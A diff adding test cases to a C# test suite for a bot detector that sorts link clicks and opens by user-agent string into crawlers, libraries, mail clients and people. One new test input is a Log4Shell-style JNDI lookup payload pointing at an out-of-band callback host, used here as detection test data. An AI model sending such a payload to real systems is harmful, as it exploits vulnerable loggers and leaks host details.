@@ -29,6 +29,14 @@ public class StatelessDetectorTests
     [InlineData("Barracuda Sentinel (EE)", "ua.scanner")]
     [InlineData("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "ua.scanner")]
     [InlineData("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "ua.crawler")]
+    [InlineData("${jndi:ldap://${hostName}.useragent.example.oast.live}", "ua.crawler")]
+    [InlineData("gobuster/3.1.0", "ua.crawler")]
+    [InlineData("Blackbox Exporter/0.24.0", "ua.crawler")]
+    [InlineData("DynatraceSynthetic/1.179", "ua.crawler")]
+    [InlineData("GitHubCopilotChat/0.8.0", "ua.crawler")]
+    [InlineData("meta-externalagent/1.1", "ua.crawler")]
+    [InlineData("AHC/2.1", "ua.library")]
+    [InlineData("ipad", "ua.crawler")] // a bare word with no model is still a bot's
     [InlineData("", "ua.missing")]
     [InlineData(null, "ua.missing")]
     public void ClientSignature_FiresItsReason_AndScoresBot(string? userAgent, string expected)
@@ -86,6 +94,35 @@ public class StatelessDetectorTests
 
         Assert.Contains(reason, verdict.Reasons.Split(','));
         Assert.Equal(expected, verdict.Kind);
+    }
+
+    [Theory]
+    [InlineData("Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36")]
+    [InlineData("Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36")]
+    [InlineData("Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")]
+    [InlineData("iPhone14ProMax")]
+    [InlineData("Amazon;AFTMM;756a522d9f1648b89e76e80be654456a;;tpapi;3.202.356")]
+    [InlineData("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)")]
+    [InlineData("Firefox 3.0.5")]
+    [InlineData("Viber")]
+    [InlineData("WhatsApp/2.17.427 Android/6.0 Device/HTC-HTC_Desire_816")]
+    public void PersonSoftwareWithACrawlersShape_FiresNothing(string userAgent)
+    {
+        var signals = _detector.Detect(Requests.Browser(LinkKind.Click, userAgent));
+
+        Assert.True(signals.IsEmpty, signals.ToString());
+    }
+
+    [Theory]
+    [InlineData("The Bat! 4.0.0.22", LinkKind.Click)]
+    [InlineData("The Bat! Voyager 4.0.18.4", LinkKind.Open)]
+    [InlineData("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)", LinkKind.Open)]
+    public void MailClient_IsAPersonOnClicksAndOpens(string userAgent, LinkKind kind)
+    {
+        var verdict = _scorer.Score(_detector.Detect(Requests.Browser(kind, userAgent)));
+
+        Assert.Contains("client.mail-app", verdict.Reasons.Split(','));
+        Assert.Equal(VerdictKind.Human, verdict.Kind);
     }
 
     [Theory]
